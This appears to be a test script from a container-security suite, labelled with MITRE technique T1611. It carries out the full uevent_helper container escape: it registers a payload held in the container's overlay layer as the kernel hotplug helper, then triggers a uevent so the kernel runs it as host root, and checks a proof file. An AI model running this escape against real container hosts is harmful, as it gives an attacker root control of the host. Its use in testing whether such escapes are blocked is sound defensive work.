# category: container-escape
# technique: T1611
# art: no
# expect: core-pattern-write
# desc: the uevent_helper escape: a payload in the container's writable layer is registered as the kernel's hotplug helper (/sys/kernel/uevent_helper, and the older /proc/sys/kernel/hotplug) by its host path, then a uevent is triggered so the kernel runs it as host root (the read-only /sys and /proc/sys refuse)
upper=$(sed -n 's/.* - overlay .*upperdir=\([^,]*\).*/\1/p' /proc/self/mountinfo | head -1)
printf '#!/bin/sh\nid > %s/tmp/pwned\n' "$upper" > /tmp/helper
chmod +x /tmp/helper
echo "$upper/tmp/helper" > /sys/kernel/uevent_helper || echo "uevent_helper write refused"
echo "$upper/tmp/helper" > /proc/sys/kernel/hotplug || echo "hotplug write refused"
echo change > /sys/class/mem/null/uevent || echo "uevent trigger refused"
sleep 0.2
cat /tmp/pwned 2>/dev/null || echo "no escape"
